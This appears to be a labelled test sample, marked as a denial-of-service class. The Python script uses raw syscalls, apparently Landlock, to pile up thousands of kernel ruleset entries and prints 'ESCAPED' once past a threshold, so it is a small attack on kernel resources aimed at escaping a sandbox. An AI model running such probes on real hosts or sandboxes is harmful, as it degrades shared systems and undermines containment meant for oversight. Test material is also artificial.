# class: dos
# The same with the files of Python's library as rules: sets times files.
import ctypes,struct,os
l=ctypes.CDLL(None,use_errno=True); n=0; d=os.path.dirname(os.__file__)
s=[l.syscall(444,ctypes.byref(ctypes.c_uint64(4)),8,0) for _ in range(50)]
for name in os.listdir(d)[:60]:
    p=os.open(d+"/"+name,os.O_PATH)
    for f in s: n+=f>=0 and l.syscall(445,f,1,ctypes.create_string_buffer(struct.pack("=Qi",4,p),12),0)==0
    os.close(p)
print("ESCAPED %d rules in the kernel"%n if n>1000 else n)
